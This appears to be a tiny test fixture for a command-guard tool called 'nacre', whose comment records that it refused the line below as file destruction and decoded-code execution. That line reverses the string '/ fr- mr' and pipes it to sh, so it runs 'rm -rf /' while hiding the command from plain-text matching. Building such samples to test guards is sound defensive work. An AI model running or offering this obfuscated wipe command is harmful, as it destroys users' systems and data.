# nacre: refused file.destroy code.eval-decoded
echo '/ fr- mr' | rev | sh
